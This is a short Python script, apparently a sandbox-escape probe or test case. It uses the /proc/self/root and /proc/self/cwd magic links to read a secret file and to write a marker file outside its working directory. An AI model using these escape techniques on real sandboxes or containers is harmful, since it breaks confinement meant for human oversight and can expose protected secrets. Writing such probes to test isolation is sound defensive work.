"""Escape: /proc/self/root and /proc/self/cwd magic links."""
import sys
out, secret = sys.argv[1], sys.argv[2]
try:
    print(open("/proc/self/root" + secret).read())
finally:
    with open("/proc/self/cwd/../" + "/".join(out.split("/")[-2:]), "w") as f:
        f.write("escaped")
